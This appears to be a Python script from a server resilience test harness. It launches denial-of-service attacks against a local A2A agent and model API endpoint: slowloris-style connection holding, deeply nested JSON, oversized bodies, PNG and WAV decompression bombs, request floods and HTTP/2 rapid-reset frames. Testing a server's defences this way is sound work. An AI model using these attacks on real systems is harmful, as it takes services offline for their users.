"""One attack, a process of its own and of the lowest priority: a hostile client elsewhere takes no processor time of the machine it attacks.

    attacks.py NAME HOST:PORT KEY SECONDS RATE [TASK]

Makes ready, prints a line, waits for one, attacks for so long, and prints {"count": n, "what": "..."}. RATE is how many times a second
(0: as often as it can). Attackers come from addresses of their own (127.0.0.2 and up), as clients of other machines would.
"""

from __future__ import annotations

import base64
import http.client
import json
import os
import resource
import socket
import struct
import sys
import threading
import time
import uuid
import zlib
from collections.abc import Callable

NAME, ADDRESS, KEY = sys.argv[1:4]
SECONDS, RATE = float(sys.argv[4]), float(sys.argv[5])
TASK = sys.argv[6] if len(sys.argv) > 6 else ""
HOST, PORT = ADDRESS.rsplit(":", 1)
PER_ADDRESS = 1_000


class Pace:
    """Lets one more through when it is its turn."""

    def __init__(self) -> None:
        self.began, self.count, self.lock = time.monotonic(), 0, threading.Lock()
        self.until = self.began + SECONDS

    def next(self) -> bool:
        with self.lock:
            due = self.began + self.count / RATE if RATE else 0.0
            if max(due, time.monotonic()) >= self.until:
                return False
            self.count += 1
        time.sleep(max(0.0, due - time.monotonic()))
        return True

    def rest(self) -> None:
        time.sleep(max(0.0, self.until - time.monotonic()))


def dial(number: int = 0, timeout: float = 20) -> socket.socket:
    return socket.create_connection((HOST, int(PORT)), timeout, source_address=(f"127.0.0.{2 + number // PER_ADDRESS}", 0))


def head_of(path: str, length: int, kind: str = "application/json") -> bytes:
    return (
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {KEY}\r\nA2A-Version: 1.0\r\n"
        f"Content-Type: {kind}\r\nContent-Length: {length}\r\n\r\n"
    ).encode()


# Those who hold connections.


def hold(count: int, first: bytes) -> list[socket.socket]:
    """Opens so many connections, says `first` on each, and no more."""
    held = []
    for number in range(count):
        try:
            made = dial(number, 2)
            made.sendall(first)
            held.append(made)
        except OSError:
            break
    return held


def holding(count: int, first: bytes, what: str, also: Callable[[list[socket.socket]], None] = lambda _: None) -> Callable[[Pace], str]:
    def run(pace: Pace) -> str:
        held = hold(count, first)
        while time.monotonic() + 1 < pace.until:
            also(held)
            time.sleep(1)
        pace.rest()
        return f"{len(held)} {what}"

    return run


def one_byte() -> Callable[[Pace], str]:
    return holding(2_000, b"P", "connections")


def slow_headers() -> Callable[[Pace], str]:
    def more(held: list[socket.socket]) -> None:
        for made in held:
            try:
                made.sendall(b"X-A: 1\r\n")
            except OSError:
                pass

    return holding(500, b"POST /a2a/echo HTTP/1.1\r\nHost: 127.0.0.1\r\n", "connections", more)


def slow_body() -> Callable[[Pace], str]:
    return holding(200, head_of("/a2a/echo", 33_000_000) + b"{", "uploads")


def idle() -> Callable[[Pace], str]:
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
    return holding(min(10_000, limit - 200), b"", "connections")


def nothing() -> Callable[[Pace], str]:
    return holding(0, b"", "")


def stalled_readers() -> Callable[[Pace], str]:
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "SubscribeToTask", "params": {"id": TASK}}).encode()
    return holding(200, head_of("/a2a/echo", len(body)) + body, "readers")


# Those who ask.


def ask(head: bytes, body: bytes) -> None:
    try:
        with dial() as made:
            made.sendall(head)
            made.sendall(body)
            made.recv(1000)
    except OSError:
        pass


def asking(body: bytes, path: str = "/a2a/echo", kind: str = "application/json") -> Callable[[Pace], str]:
    head = head_of(path, len(body), kind)

    def run(pace: Pace) -> str:
        while pace.next():
            ask(head, body)
        return f"{pace.count} requests"

    return run


def deep_json() -> Callable[[Pace], str]:
    return asking(b'{"jsonrpc":"2.0","id":1,"method":"SendMessage","params":' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}")


def long_task() -> Callable[[Pace], str]:
    """One message whose echo is two million events; nobody reads them."""
    parts = [{"text": "word " * 2_000_000}]
    message = {"message": {"messageId": uuid.uuid4().hex, "role": "ROLE_USER", "parts": parts}, "configuration": {"returnImmediately": True}}
    body = json.dumps(message).encode()
    head = head_of("/a2a/echo/message:send", len(body))

    def run(pace: Pace) -> str:
        ask(head, body)
        pace.rest()
        return "2 million events"

    return run


def large_body() -> Callable[[Pace], str]:
    return asking(bytes(100 << 20))


def picture_bomb() -> Callable[[Pace], str]:
    """A PNG of 60,000 by 60,000 points, a kilobyte long."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(1 << 20))) + chunk(b"IEND", b"")
    url = "data:image/png;base64," + base64.b64encode(png).decode()
    content = [{"type": "image_url", "image_url": {"url": url}}, {"type": "text", "text": "what?"}]
    body = json.dumps({"model": "paligemma", "messages": [{"role": "user", "content": content}]}).encode()
    return asking(body, "/v1/chat/completions")


def sound_bomb() -> Callable[[Pace], str]:
    """A WAV whose head says 4 GB at 768 kHz; what decodes it has two megabytes."""
    head = b"RIFF" + struct.pack("<I", 0xFFFFFFFF) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 768_000, 1_536_000, 2, 16)
    wav = head + b"data" + struct.pack("<I", 0xFFFFFF00) + bytes(2 << 20)
    edge = "----covey"
    body = f'--{edge}\r\nContent-Disposition: form-data; name="model"\r\n\r\nwhisper\r\n--{edge}\r\nContent-Disposition: form-data; name="file"; filename="a.wav"\r\n\r\n'
    body_bytes = body.encode() + wav + f"\r\n--{edge}--\r\n".encode()
    return asking(body_bytes, "/v1/audio/transcriptions", f"multipart/form-data; boundary={edge}")


def flood() -> Callable[[Pace], str]:
    """Messages of 1 MB on eight connections, as fast as they are answered: ten times what fits."""

    def one(pace: Pace) -> None:
        connection = http.client.HTTPConnection(ADDRESS, timeout=60, source_address=("127.0.0.2", 0))
        headers = {"Authorization": f"Bearer {KEY}", "A2A-Version": "1.0", "Content-Type": "application/json"}
        text = b"x" * (1 << 20)
        while pace.next():
            body = b'{"message":{"messageId":"%s","role":"ROLE_USER","parts":[{"text":"%s"}]}}' % (uuid.uuid4().hex.encode(), text)
            try:
                connection.request("POST", "/a2a/echo/message:send", body, headers)
                answer = connection.getresponse()
                answer.read()
                if answer.status != 200:
                    time.sleep(0.02)
            except (OSError, http.client.HTTPException):
                connection.close()

    def run(pace: Pace) -> str:
        threads = [threading.Thread(target=one, args=(pace,)) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return f"{pace.count} messages"

    return run


# Those who break HTTP/2.

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# :method GET, :scheme http, :path / of the static table, :authority as a literal.
REQUEST = b"\x82\x86\x84\x01\x09127.0.0.1"


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


def breaking(of: Callable[[int], bytes]) -> Callable[[Pace], str]:
    def run(pace: Pace) -> str:
        while pace.next():
            try:
                with dial() as made:
                    made.sendall(of(pace.count))
            except OSError:
                pass
        return f"{pace.count} connections"

    return run


def rapid_reset() -> Callable[[Pace], str]:
    resets = b"".join(frame(1, 5, stream, REQUEST) + frame(3, 0, stream, b"\0\0\0\x08") for stream in range(1, 20_000, 2))
    said = PREFACE + frame(4, 0, 0) + resets
    return breaking(lambda _: said)


def truncated_frames() -> Callable[[Pace], str]:
    return breaking(lambda count: PREFACE + frame(4, 0, 0) + frame(1, 4, 1, REQUEST)[: 9 + count % len(REQUEST)] + b"\xff" * 200)


ATTACKS = [
    nothing, one_byte, slow_headers, slow_body, idle, stalled_readers, deep_json, large_body, rapid_reset, truncated_frames, picture_bomb,
    sound_bomb, flood, long_task,
]


def main() -> None:
    os.nice(19)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = {attack.__name__: attack for attack in ATTACKS}[NAME]()
    print("ready", flush=True)
    sys.stdin.readline()
    pace = Pace()
    what = attack(pace)
    print(json.dumps({"count": pace.count, "what": what}), flush=True)
    # What it holds is held until it is told to end.
    sys.stdin.read()


if __name__ == "__main__":
    main()
